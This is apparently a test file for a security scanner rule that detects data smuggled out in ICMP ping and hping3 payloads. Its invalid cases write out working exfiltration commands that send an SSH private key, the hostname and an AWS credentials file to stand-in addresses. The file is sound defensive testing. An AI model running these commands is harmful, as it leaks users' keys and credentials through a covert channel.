import { testRule } from '../rule-tester.ts';
import { icmpPayload } from '../../../src/scan/rules/icmp-payload.ts';

testRule(icmpPayload, {
  valid: [
    { name: 'a plain latency probe', files: { 'probe.sh': 'ping -c 5 -q 192.0.2.10 | tail -1\n' } },
    { name: 'a fixed fill pattern tests a line for data-dependent faults', files: { 'line.sh': 'ping -c 100 -p ff00 -s 1400 192.0.2.10\n' } },
    { name: 'a packet size from a variable is no payload', files: { 'mtu.sh': 'for s in 1200 1400 1472; do ping -c 1 -M do -s "$s" 192.0.2.10; done\n' } },
    { name: 'hping3 SYN probe without a data file', files: { 'syn.sh': 'sudo hping3 -S -p 443 -c 3 192.0.2.10\n' } },
  ],
  invalid: [
    {
      name: 'hex chunks of a key in the ping padding',
      files: { 'lat.sh': 'xxd -p -c 16 ~/.ssh/id_ed25519 | while read -r chunk; do\n  ping -c 1 -p "$chunk" 198.51.100.4 >/dev/null\ndone\n' },
      errors: [{ messageId: 'pattern', line: 2, severity: 'high' }],
    },
    {
      name: 'pattern glued to the flag from a command substitution',
      files: { 'p.sh': 'ping -c1 -p$(hostname | xxd -p | head -c 32) 203.0.113.9\n' },
      errors: [{ messageId: 'pattern', severity: 'high' }],
    },
    {
      name: 'hping3 sending a credentials file as payload',
      files: { 'h.sh': 'hping3 -1 -E ~/.aws/credentials -d 1200 -c 1 203.0.113.9\n' },
      errors: [{ messageId: 'file', severity: 'critical' }],
    },
    {
      name: 'hping3 sending an ordinary file is still a covert send',
      files: { 'h.sh': 'hping3 -1 --file notes.txt -d 100 203.0.113.9\n' },
      errors: [{ messageId: 'file', severity: 'high' }],
    },
  ],
});
